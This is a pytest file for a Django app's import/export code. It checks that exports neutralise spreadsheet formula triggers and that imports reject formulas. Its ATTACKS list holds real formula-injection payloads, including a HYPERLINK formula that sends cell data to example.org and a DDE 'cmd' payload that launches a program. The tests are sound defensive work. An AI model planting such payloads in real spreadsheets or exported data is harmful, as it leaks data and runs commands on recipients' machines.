"""Formula injection: staff exports neutralise every formula trigger; imports refuse formulas but not text.

A spreadsheet runs a cell that starts with =, +, -, @ (or a tab or carriage return). The library's
own escaping only stripped one leading "=", so "==HYPERLINK(...)" stayed a live formula in XLSX and
"+cmd|..." passed through in CSV. Every export now uses the same function as open data.
"""

import csv
import io
import json

import openpyxl
import pytest
from django.core.management import call_command
from import_export.formats.base_formats import CSV

from core import spreadsheets
from investments.models import Investment
from investments.resources import InvestmentResource
from opendata import formats as open_data_formats
from tests.workspace.test_import_export import ALL_RESOURCES
from tests.workspace_helpers import ONDERZOEKER, csv_bytes, export, make_user, snapshot

ATTACKS = [
    '==HYPERLINK("https://example.org/?d="&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def attacked():
    """Investments whose titles are each one of the attacks."""
    investments = list(Investment.objects.order_by("pk")[: len(ATTACKS)])
    for investment, title in zip(investments, ATTACKS, strict=True):
        Investment.objects.filter(pk=investment.pk).update(title=title)
    return investments


def _assert_no_live_cell(cells):
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(spreadsheets.FORMULA_TRIGGERS), repr(cell)


@pytest.mark.django_db
def test_admin_csv_export_neutralises_every_trigger(client, attacked):
    client.force_login(make_user(ONDERZOEKER))
    content = export(client, "csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    _assert_no_live_cell(cells)
    for attack in ATTACKS:
        assert "'" + attack in cells


@pytest.mark.django_db
def test_admin_xlsx_export_has_no_formula_cell(client, attacked):
    client.force_login(make_user(ONDERZOEKER))
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    _assert_no_live_cell(cell.value for cell in cells)
    assert "'" + ATTACKS[0] in [cell.value for cell in cells]


@pytest.mark.django_db
def test_admin_json_export_neutralises_too(client, attacked):
    client.force_login(make_user(ONDERZOEKER))
    rows = json.loads(export(client, "json").content)
    _assert_no_live_cell(value for row in rows for value in row.values())


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["CSV", "XLSX", "JSON"])
def test_export_command_neutralises_every_trigger(attacked, file_format):
    stdout = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    call_command("export", file_format, "investments.resources.InvestmentResource", stdout=stdout)
    stdout.flush()
    content = stdout.buffer.getvalue()
    if file_format == "XLSX":
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
        assert not any(cell.data_type == "f" for cell in cells)
        values = [cell.value for cell in cells]
    elif file_format == "CSV":
        values = [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]
    else:
        values = [value for row in json.loads(content) for value in row.values()]
    _assert_no_live_cell(values)


@pytest.mark.django_db
@pytest.mark.parametrize("resource_class", ALL_RESOURCES, ids=lambda resource: resource.__name__)
def test_every_resource_neutralises_its_text_columns(resource_class):
    model = resource_class._meta.model
    record = model.objects.order_by("pk").first()
    text_fields = [
        f.name
        for f in model._meta.get_fields()
        if getattr(f, "get_internal_type", None) and f.get_internal_type() == "TextField"
    ]
    model.objects.filter(pk=record.pk).update(**dict.fromkeys(text_fields, "@SUM(A1:A2)"))
    dataset = resource_class().export(queryset=model.objects.filter(pk=record.pk))
    _assert_no_live_cell(dataset[0])
    assert "'@SUM(A1:A2)" in dataset[0]


def test_open_data_and_staff_exports_share_one_function():
    assert open_data_formats.spreadsheet_text is spreadsheets.spreadsheet_text


@pytest.mark.django_db
def test_a_round_trip_keeps_text_that_starts_with_a_trigger():
    investment = Investment.objects.order_by("pk").first()
    Investment.objects.filter(pk=investment.pk).update(title="- een opsomming", reach="'citaat'")
    dataset = InvestmentResource().export(queryset=Investment.objects.filter(pk=investment.pk))
    before = snapshot()

    result = InvestmentResource().import_data(dataset, dry_run=False, raise_errors=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    assert snapshot() == before


def _row(slug, **changes):
    return {
        "gemeente": "GM0363",
        "slug": slug,
        "status": "gepland",
        "titel": "Een titel",
        "tekst": "Een tekst.",
        "bereik": "",
        "volgorde": 1,
        "publicatiestatus": "concept",
    } | changes


@pytest.mark.django_db
# (A bare carriage return would end the CSV line of this test's file, so it is tested on export only.)
@pytest.mark.parametrize("attack", [*ATTACKS[:-1], "=1+1", " =1+1", "+A1", "-A1*2", '@HYPERLINK("x")'])
def test_import_refuses_formulas(attack):
    dataset = CSV().create_dataset(csv_bytes([_row("formule", titel=attack)]).decode())
    before = snapshot()

    result = InvestmentResource().import_data(dataset, dry_run=False, raise_errors=False)

    assert [(row.number, list(row.error_dict)) for row in result.invalid_rows] == [
        (2, ["titel"])
    ]  # row 1 is the header
    assert "Formules zijn niet toegestaan" in str(result.invalid_rows[0].error_dict["titel"])
    assert snapshot() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"titel": "- een opsomming"}, {"title": "- een opsomming"}),
        ({"tekst": "+31 6 1234 5678 is het nummer."}, {"text": "+31 6 1234 5678 is het nummer."}),
        ({"bereik": "+/- 200 inwoners"}, {"reach": "+/- 200 inwoners"}),
        ({"titel": "@gemeente op sociale media"}, {"title": "@gemeente op sociale media"}),
        ({"volgorde": "-3"}, {"position": -3}),
        # A neutralised cell from our own export is text: it comes back without the apostrophe.
        ({"titel": "'=1+1"}, {"title": "=1+1"}),
    ],
)
def test_import_accepts_text_and_numbers_that_start_like_a_formula(changes, expected):
    dataset = CSV().create_dataset(csv_bytes([_row("geen-formule", **changes)]).decode())

    result = InvestmentResource().import_data(dataset, dry_run=False, raise_errors=False)

    if "position" in expected:
        # The model's position cannot be negative: refused for that, not as a formula.
        messages = [str(row.error_dict) for row in result.invalid_rows]
        assert messages and not any("Formules" in message for message in messages)
        return
    assert not result.has_errors() and not result.has_validation_errors()
    investment = Investment.objects.get(slug="geen-formule")
    for name, value in expected.items():
        assert getattr(investment, name) == value
